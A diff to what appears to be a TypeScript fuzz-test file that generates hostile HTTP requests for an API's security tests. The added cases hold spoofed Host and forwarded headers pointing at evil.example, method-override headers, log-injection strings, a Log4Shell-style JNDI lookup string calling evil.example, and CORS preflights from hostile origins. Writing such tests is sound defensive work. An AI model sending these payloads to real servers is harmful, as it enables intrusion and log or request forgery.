@@ -58,6 +58,42 @@ const goodText = fc.tuple(field(openFields), text.filter(isGood)).map(([name, an
   })
 })
 
+/** A submission that is good in all but the headers around it: they change nothing. */
+const strangeHeaders = fc
+  .constantFrom<Record<string, string>>(
+    { host: 'evil.example' },
+    { host: 'evil.example:99999' },
+    { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', forwarded: 'host=evil.example' },
+    { 'x-http-method-override': 'DELETE', 'x-original-url': '/desk', 'x-rewrite-url': '/desk' },
+    { 'user-agent': '{"level":60,"msg":"forged"}', 'x-request-id': '{"level":60}', referer: 'evil.example' },
+    { 'user-agent': `\${jndi:ldap://evil.example}`, 'x-request-id': '"},{"forged":"yes' },
+    { 'user-agent': 'forged '.repeat(1000), cookie: 'a=b; '.repeat(1000) },
+    { 'user-agent': '', accept: '*/*;q=1e400', 'accept-language': '\u00ff'.repeat(100), range: 'bytes=9-1' },
+  )
+  .map((headers) => {
+    const id = newId()
+    const answers = answersOf(id)
+    return put('3.14 3.15', answers, {
+      path: `/api/projects/${id}`,
+      headers: { ...JSON_HEADERS, ...headers },
+      allowed: [201],
+      accepted: { id, answers },
+    })
+  })
+
+const preflight = fc.constantFrom('https://evil.example', 'null', 'http://127.0.0.1').map((origin) => ({
+  row: '3.14',
+  method: 'OPTIONS',
+  path: `/api/projects/${newId()}`,
+  headers: {
+    origin,
+    'access-control-request-method': 'PUT',
+    'access-control-request-headers': 'content-type',
+  },
+  body: Buffer.alloc(0),
+  allowed: REFUSED,
+}))
+
 const badValue = fc
   .tuple(
     field(fieldNames),
@@ -194,6 +230,8 @@ export function hostileCases(count: number, seed: number): readonly HostileCase[
     { weight: 1, arbitrary: encoded },
     { weight: 3, arbitrary: badId },
     { weight: 1, arbitrary: elsewhere },
+    { weight: 1, arbitrary: strangeHeaders },
+    { weight: 1, arbitrary: preflight },
     { weight: 4, arbitrary: badPath },
   )
   return fc.sample(any, { numRuns: count, seed })
